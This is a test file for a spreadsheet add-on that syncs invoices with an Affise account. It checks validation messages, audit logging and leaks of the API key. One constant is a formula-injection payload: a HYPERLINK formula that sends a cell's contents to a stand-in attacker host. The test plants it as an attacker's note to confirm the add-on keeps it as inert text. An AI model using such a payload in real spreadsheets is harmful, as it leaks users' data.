/**
 * Review changes… row by row on the built bundle: every kind of row that cannot be sent (a status
 * word Affise doesn't have, an amount that isn't a number, a currency the account doesn't use, an
 * unknown affiliate, a row both edited and marked for deletion, a correction that isn't a number)
 * is listed in the dialog with its reason and shows the same reason on its row, in red; a note
 * from Affise that starts with "=" stays text through the refresh and the read-back after an
 * apply; a column the user added to the right keeps its values with their invoices; and no piece
 * of the Affise key shows in a sheet, a property, a log line or a message, even when Affise
 * refuses the key.
 */
import type { ReportDefinition } from '../../../src/app/reports/definition';
import type { ChangeApplyView, ChangeReviewView } from '../../../src/app/sidebar/api';
import { AFFISE_QUIRKS_OFF, DEFAULT_AFFISE_KEYS } from '../../../test-support/fake-affise';
import type { ExecutionOutcome } from '../../../test-support/emulator/emulator';
import { AddOnHarness } from '../../../test-support/harness';
import { userSpreadsheetApp } from '../../../tools/runner/report-document';
import { runReportOnce } from '../../../tools/runner/report-runs';
import { addReport, sheetValues } from '../support-reports/reports-harness';
import { SecretScanner } from '../support/secrets';

const SECRET = 'e2e-affise-secret-K9x2-77Qp';
const FORMULA_NOTE = '=HYPERLINK("http://evil.test/?leak="&A1,"open")';
const USER_COLUMN = 'Checked by';
const RED = '#f4cccc';
let harness: AddOnHarness;
let definition: ReportDefinition;
const outcomes: ExecutionOutcome[] = [];
let hostileId = 0;

const affise = () => {
  if (!harness.affise) throw new Error('no fake Affise');
  return harness.affise;
};
const book = () => userSpreadsheetApp(harness).getActive();
const reportSheet = () => {
  const sheet = book().getSheetByName(definition.sheet);
  if (!sheet) throw new Error('no report sheet');
  return sheet;
};
const grid = (): unknown[][] => sheetValues(harness, definition.sheet);
const column = (header: string): number => (grid()[0] ?? []).map(String).indexOf(header) + 1;
const rowOfInvoice = (id: number | string): number => grid().findIndex((row, index) => index > 0 && String(row[0]) === String(id)) + 1;
const cell = (row: number, header: string): string => String(grid()[row - 1]?.[column(header) - 1] ?? '');
const type = (row: number, header: string, value: string | boolean): void => void reportSheet().getRange(row, column(header)).setValue(value);

function call(name: string, ...args: unknown[]): ExecutionOutcome {
  const outcome = harness.execute(name, ...args);
  outcomes.push(outcome);
  return outcome;
}
function review(): ChangeReviewView {
  const outcome = call('sidebarReviewChanges');
  if (!outcome.ok) throw new Error(`Review failed: ${outcome.error}`);
  return outcome.value as ChangeReviewView;
}
function apply(reviewed: ChangeReviewView): ChangeApplyView {
  const outcome = call('sidebarApplyChanges', { sheet: reviewed.sheet, plan: reviewed.plan });
  if (!outcome.ok) throw new Error(`Apply failed: ${outcome.error}`);
  return outcome.value as ChangeApplyView;
}
async function refresh(): Promise<void> {
  const run = await runReportOnce(harness, definition);
  expect(run.log?.result).toBe('ok');
}

beforeAll(async () => {
  const owner = DEFAULT_AFFISE_KEYS[0]?.user;
  if (!owner) throw new Error('no demo user');
  harness = await AddOnHarness.start({ spreadsheetTimeZone: 'UTC', affise: { paymentCount: 10, quirks: AFFISE_QUIRKS_OFF, latencyMs: 5, keys: [{ key: SECRET, user: owner }] }, affiseKey: SECRET });
  // Affise holds a note that reads like a formula (typed there by someone, or by an attacker).
  hostileId = (await affise().payments())[0]?.id ?? 0;
  const written = await fetch(`${affise().baseUrl}/3.1/payments/${hostileId}`, {
    method: 'POST',
    headers: { 'API-Key': SECRET, 'Content-Type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ note: FORMULA_NOTE }).toString(),
  });
  expect(written.status).toBe(200);
  definition = addReport(harness, { id: 'editable', name: 'Editable', kind: 'affise-invoices', mode: 'merge', sheet: 'Invoices', editable: true });
  await refresh();
  const opened = harness.execute('onOpen', { authMode: 'FULL' });
  if (!opened.ok) throw new Error(`onOpen failed: ${opened.error}`);
  book().setActiveSheet(reportSheet());
  // The user's own column, right of the report's.
  const width = (grid()[0] ?? []).length;
  reportSheet().getRange(1, width + 1).setValue(USER_COLUMN);
  grid().forEach((row, index) => {
    if (index > 0) reportSheet().getRange(index + 1, width + 1).setValue(`ok ${String(row[0])}`);
  });
  await affise().clearJournal();
});
afterAll(async () => {
  await harness?.close();
});

describe('an editable invoice sheet, row by row', () => {
  it('writes a note from Affise that starts with "=" as text, never as a formula', () => {
    const row = rowOfInvoice(hostileId);
    const range = reportSheet().getRange(row, column('Notes'));
    expect(range.getFormula()).toBe('');
    expect(range.getValue()).toBe(FORMULA_NOTE);
  });

  it('lists each row that cannot be sent with its reason, and shows the reason on the row in red; sends nothing', async () => {
    const invoices = grid()
      .map((_, index) => index + 1)
      .filter((row) => row > 1 && cell(row, 'Invoice ID') !== '' && Number(cell(row, 'Invoice ID')) !== hostileId);
    const [badStatus = 0, editedAndDeleted = 0, badCorrection = 0] = invoices;
    const [status, comment] = [cell(badStatus, 'Status'), cell(editedAndDeleted, 'Comment')];
    type(badStatus, 'Status', 'paid');
    type(editedAndDeleted, 'Comment', 'approved');
    type(editedAndDeleted, 'Delete', true);
    type(badCorrection, 'Correction', 'fifteen');
    type(badCorrection, 'Correction comment', 'chargeback');
    const partner = String((await affise().partners())[0]?.id ?? '');
    const first = grid().length + 1;
    const newRows: Array<[string, string, string, string]> = [
      [partner, 'ten', 'EUR', 'not an amount'],
      [partner, '10', 'XXX', 'a currency the account does not use'],
      ['999999', '10', 'EUR', 'an unknown affiliate'],
    ];
    newRows.forEach(([affiliate, amount, currency, notes], index) => {
      type(first + index, 'Affiliate ID', affiliate);
      type(first + index, 'Amount', amount);
      type(first + index, 'Currency', currency);
      type(first + index, 'Notes', notes);
    });

    const view = review();
    expect(view.changes).toEqual([]);
    expect(view.confirmLabel).toBeNull();
    const expected = [
      [badStatus, /^"paid" is not a status \(use waiting, completed, partly paid, pending, declined\)\.$/],
      [editedAndDeleted, /^This row is both edited and marked for deletion: undo the edit or untick Delete\.$/],
      [badCorrection, /^Correction must be a non-zero number such as -15\.00, not "fifteen"\.$/],
      [first, /^Amount must be a positive number such as 120\.50, not "ten"\.$/],
      [first + 1, /^This account does not use the currency "XXX" \(it uses [A-Z, ]+\)\.$/],
      [first + 2, /^Affiliate 999999 is not in this account\.$/],
    ] as const;
    expect(view.refused.map((refusal) => refusal.row)).toEqual(expected.map(([row]) => row));
    for (const [row, reason] of expected) {
      const shown = view.refused.find((refusal) => refusal.row === row)?.reason ?? '';
      expect(shown).toMatch(reason);
      expect(cell(row, 'Apply result')).toBe(`✗ Not sent: ${shown}`);
      expect(reportSheet().getRange(row, column('Apply result')).getBackground()).toBe(RED);
    }
    expect(await affise().journal()).toEqual([]);
    // Put right for what follows: the invoice rows as they were, the new rows gone.
    type(badStatus, 'Status', status);
    type(editedAndDeleted, 'Comment', comment);
    type(editedAndDeleted, 'Delete', false);
    type(badCorrection, 'Correction', '');
    type(badCorrection, 'Correction comment', '');
    reportSheet().deleteRows(first, newRows.length);
  });

  it('keeps the "=" note as text after an apply reads the invoice back, and the user column with its invoices through apply and refresh', async () => {
    const row = rowOfInvoice(hostileId);
    type(row, 'Comment', 'checked by finance');
    const reviewed = review();
    expect(reviewed.changes.map((change) => change.text)).toEqual([expect.stringMatching(new RegExp(`^Invoice ${hostileId}: comment .* → checked by finance$`))]);
    const applied = apply(reviewed);
    expect(applied.refusedBecause).toBeNull();
    expect((await affise().journal()).filter((entry) => entry.applied && entry.paymentId === hostileId).map((entry) => entry.operation)).toEqual(['update']);
    const after = rowOfInvoice(hostileId);
    expect(cell(after, 'Apply result')).toMatch(/^✓ Applied at /);
    // The Audit log: time, the user's e-mail, account, invoice, action, before, after, result, Affise's message; protected with a warning.
    const log = book().getSheetByName('Audit log');
    expect(log?.getRange(1, 1, 1, 9).getValues()[0]).toEqual(['Time', 'User', 'Account', 'Invoice', 'Action', 'Before', 'After', 'Result', 'Message']);
    const [logged] = (log?.getRange(2, 1, 1, 9).getValues() ?? []) as unknown[][];
    expect(logged?.[0]).toBeInstanceOf(Date);
    expect(logged?.slice(1)).toEqual(['user@example.com', 'Affise', String(hostileId), 'update', expect.stringMatching(/^comment: /), 'comment: checked by finance', 'applied', expect.any(String)]);
    expect(log?.getProtections(null).map((protection) => [protection.isWarningOnly(), protection.getDescription()])).toEqual([[true, expect.stringMatching(/do not edit it by hand/)]]);
    const notes = reportSheet().getRange(after, column('Notes'));
    expect([notes.getFormula(), notes.getValue()]).toEqual(['', FORMULA_NOTE]);
    const userColumnOk = (): void => {
      for (const [index, values] of grid().entries()) if (index > 0 && String(values[0]) !== '') expect(cell(index + 1, USER_COLUMN)).toBe(`ok ${String(values[0])}`);
    };
    userColumnOk();
    harness.clock.advance(3_600_000);
    await refresh();
    userColumnOk();
    const refreshed = reportSheet().getRange(rowOfInvoice(hostileId), column('Notes'));
    expect([refreshed.getFormula(), refreshed.getValue()]).toEqual(['', FORMULA_NOTE]);
    expect(review().changes).toEqual([]);
  });

  it('keeps every piece of the key out of the sheets, the properties, the logs and the messages, even when Affise refuses the key', async () => {
    await affise().configure({ keys: [...DEFAULT_AFFISE_KEYS] });
    type(rowOfInvoice(hostileId), 'Comment', 'after the key was revoked');
    const refused = call('sidebarReviewChanges');
    const reviewed = refused.ok ? (refused.value as ChangeReviewView) : null;
    if (reviewed && reviewed.confirmLabel !== null) apply(reviewed);
    const shown = outcomes.map((outcome) => (outcome.ok ? JSON.stringify(outcome.value ?? null) : outcome.error));
    expect(shown.some((text) => /Affise did not accept the API key/.test(text))).toBe(true);
    const sheets = harness.sheets.spreadsheet.sheets.map((sheet) => sheet.name).flatMap((name) => sheetValues(harness, name).flat().map(String));
    const properties = [harness.emulator.documentProperties, harness.emulator.scriptProperties].flatMap((store) => Object.entries(store.getProperties()).flat());
    const logs = harness.emulator.logRecords.map((record) => record.message);
    const scanner = new SecretScanner(SECRET);
    expect(sheets.length).toBeGreaterThan(100);
    expect(scanner.piecesIn([...shown, ...sheets, ...properties, ...logs])).toEqual([]);
  });
});
